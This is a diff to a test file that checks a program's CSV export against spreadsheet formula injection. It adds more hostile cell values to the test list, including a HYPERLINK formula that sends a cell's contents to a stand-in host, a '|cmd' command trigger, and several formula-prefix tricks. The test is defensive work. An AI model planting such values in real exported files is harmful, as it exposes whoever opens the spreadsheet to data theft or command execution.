@@ -211,7 +211,18 @@ test("what cannot be calculated is named without the program's own fields", () =
 });
 
 test("no text of a table is a formula to a spreadsheet", () => {
-  const bad = ['=HYPERLINK("http://e/"&A1,"PI-1")', "@SUM(1,2)", "\t=1+1", "\r=1+1", "-1+1", "+1"];
+  const bad = [
+    '=HYPERLINK("http://e/"&A1,"PI-1")',
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "-1+1",
+    "+1",
+    "  =1+1",
+    "|cmd",
+    "%0A",
+    "\uff1d1+1",
+  ];
   const all = bad.map((tag, i) => notCalculated(use(String(i), range, { tag }), ""));
   const lines = csvOf(all).split("\r\n").slice(1, -1);
   assert.equal(lines.length, bad.length);
